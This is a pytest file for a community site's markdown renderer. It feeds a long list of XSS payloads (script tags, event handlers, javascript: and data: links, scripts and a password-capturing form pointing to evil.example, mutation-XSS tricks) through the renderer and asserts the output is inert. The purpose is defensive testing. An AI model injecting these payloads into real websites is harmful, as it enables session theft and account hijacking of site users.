"""Members write markdown (bios, space descriptions); nothing they write may run as code.

Every hostile input is rendered and the output is read back with a real HTML parser, the way a
browser would tokenise it: only allowed tags, no event handlers, no style, and links only to
http, https, mailto or a relative path.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from exchange.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
from tests import factories

SAFE_SCHEMES = {"http", "https", "mailto"}
# What a browser's URL parser ignores: C0 controls and spaces at the ends, tab/newline anywhere.
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))


def parse_tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.tags


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see (None for a relative URL)."""
    match = _SCHEME.match(_IGNORED_IN_URLS.sub("", url).lower())
    return match.group(1) if match else None


def unsafe_parts(html: str) -> list[str]:
    """Everything in rendered HTML that could run code or restyle the page; empty when safe."""
    problems = []
    if "<script" in html.lower():
        problems.append("raw '<script'")
    for tag, attrs in parse_tags(html):
        if tag not in ALLOWED_TAGS:
            problems.append(f"tag <{tag}>")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"event handler {name}= on <{tag}>")
            if name == "style":
                problems.append(f"style= on <{tag}>")
            if name not in allowed:
                problems.append(f"attribute {name}= on <{tag}>")
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                scheme = url_scheme(value or "")
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    problems.append(f"{name}={value!r} (scheme {scheme})")
    return problems


HOSTILE = [
    # script tags, in every case and spelling
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "Bonjour <script>alert(document.cookie)</script> tout le monde",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\<script>alert(1)\\</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    # event handlers, in every position
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>clic</p>",
    '<a href="https://ok.example" onmouseover="alert(1)">survol</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<marquee onstart=alert(1)>x</marquee>",
    # dangerous containers
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<style>body{display:none}</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/vol"><input name=password></form>',
    '<button formaction="javascript:alert(1)">ok</button>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">lien</a>',
    '<a href=" javascript:alert(1)">lien</a>',
    '<a href="java&#x09;script:alert(1)">lien</a>',
    # markdown links with hostile schemes
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic]( javascript:alert(1))",
    "[clic](java&#x09;script:alert(1))",
    "[clic](java\tscript:alert(1))",
    "[clic](javascript&colon;alert(1))",
    "[clic](&#106;avascript:alert(1))",
    "[clic](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[clic](javascript%3Aalert(1))",
    "[clic](vbscript:msgbox(1))",
    "[clic](VBScript:msgbox(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[clic](data:text/html,<script>alert(1)</script>)",
    "[clic](file:///etc/passwd)",
    "[clic](<javascript:alert(1)>)",
    '[clic](https://ok.example "titre" onclick="alert(1)")',
    '[clic](https://ok.example "\\"><script>alert(1)</script>")',
    "[clic](\\javascript:alert(1))",
    "[clic](\x00javascript:alert(1))",
    "[clic](\u200bjavascript:alert(1))",
    "[clic](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))",
    # autolinks and reference links
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[clic][x]\n\n[x]: javascript:alert(1)",
    "[clic][x]\n\n[x]: <javascript:alert(1)>",
    '[clic][x]\n\n[x]: javascript:alert(1) "titre"',
    "[x]\n\n[x]: data:text/html;base64,PHNjcmlwdD4=",
    # images (disabled), with hostile sources
    "![x](javascript:alert(1))",
    '![x](https://ok.example/a.png "x" onerror="alert(1)")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    # nested and broken tags
    '<a href="https://ok.example"><script>alert(1)</script></a>',
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1)",
    "<img\nsrc=x\nonerror=alert(1)>",
    '<div><p><a href="javascript:alert(1)">x</a></p></div>',
    "**<img src=x onerror=alert(1)>**",
    "*<svg/onload=alert(1)>*",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]


def test_there_are_enough_distinct_hostile_inputs():
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_to_inert_html(text):
    html = str(render_markdown(text))
    assert unsafe_parts(html) == [], html


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        "<img src=x onerror=alert(1)>",
        '<p style="color:red">x</p>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href=" JavaScript:alert(1)">x</a>',
        '<a href="https://ok.example" rel="x" target="_top">x</a>',
    ],
)
def test_the_checker_itself_sees_what_a_browser_would_run(html):
    """The checker must catch these, or the tests above prove nothing."""
    assert unsafe_parts(html)


# --- what members are meant to write still works -------------------------------------------


def _one(html: str, tag: str) -> dict[str, str | None]:
    found = [dict(attrs) for t, attrs in parse_tags(html) if t == tag]
    assert len(found) == 1, html
    return found[0]


def test_bold_and_italic_render():
    html = str(render_markdown("**gras** et *italique*"))
    assert "<strong>gras</strong>" in html and "<em>italique</em>" in html


def test_lists_render():
    html = str(render_markdown("- menuiserie\n- compta\n\n1. un\n2. deux"))
    assert [t for t, _ in parse_tags(html)] == ["ul", "li", "li", "ol", "li", "li"]
    assert "<li>menuiserie</li>" in html


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("[le site](https://archipel.example/lieux)", "https://archipel.example/lieux"),
        ("<https://archipel.example>", "https://archipel.example"),
        ("[écrire](mailto:lea@example.org)", "mailto:lea@example.org"),
        ("[la page](/lieux/3)", "/lieux/3"),
    ],
)
def test_links_render_with_nofollow_and_noopener(text, href):
    html = str(render_markdown(text))
    a = _one(html, "a")
    assert a["href"] == href
    rel = (a.get("rel") or "").split()
    assert "nofollow" in rel and "noopener" in rel


@pytest.mark.parametrize(("text", "level"), [("# Titre", 3), ("## Titre", 3), ("### Titre", 3)])
def test_headings_never_compete_with_the_pages_own(text, level):
    html = str(render_markdown(text))
    assert [t for t, _ in parse_tags(html)] == [f"h{level}"]
    assert "Titre" in html


def test_code_shows_html_as_text():
    html = str(render_markdown("`<b>gras</b>`"))
    assert "<code>&lt;b&gt;gras&lt;/b&gt;</code>" in html


def test_empty_bio_renders_nothing():
    assert str(render_markdown("")) == "" and str(render_markdown(None)) == ""


# --- end to end: the profile page ----------------------------------------------------------

_BIO_AREA = re.compile(r'<div class="prose">(.*?)</div>', re.S)


@pytest.mark.parametrize(
    "bio",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[clic](javascript:alert(1))",
        "Bonjour ! <svg onload=alert(1)> **menuisière**",
        "</div><script>alert(1)</script>",
    ],
)
def test_a_hostile_bio_is_inert_on_the_profile_page(client, bio):
    member = factories.member("Mallory", bio=bio)
    response = client.get(f"/membres/{member.id}")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    area = _BIO_AREA.search(page)
    assert area, page
    assert unsafe_parts(area.group(1)) == [], area.group(1)
    assert "<script" not in area.group(1).lower()
    for tag, attrs in parse_tags(page):
        assert not any(name.startswith("on") for name, _ in attrs), (tag, attrs)


def test_hostile_name_city_and_contact_are_shown_as_text(client, auth):
    mallory = factories.member(
        "<img src=x onerror=alert(1)>",
        city="<script>alert(2)</script>",
        contact='"><svg onload=alert(3)>',
    )
    auth.login(factories.member())
    page = client.get(f"/membres/{mallory.id}").get_data(as_text=True)
    for tag, attrs in parse_tags(page):
        # Only the site's own: its script files, and the bell of the header.
        if tag == "script":
            assert dict(attrs).get("src", "").startswith("/static/js/"), attrs
        if tag == "svg":
            assert dict(attrs).get("class") == "bell", attrs
        assert not any(name.startswith("on") for name, _ in attrs), (tag, attrs)
        if tag == "img":
            assert dict(attrs)["src"].startswith("/static/"), attrs
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
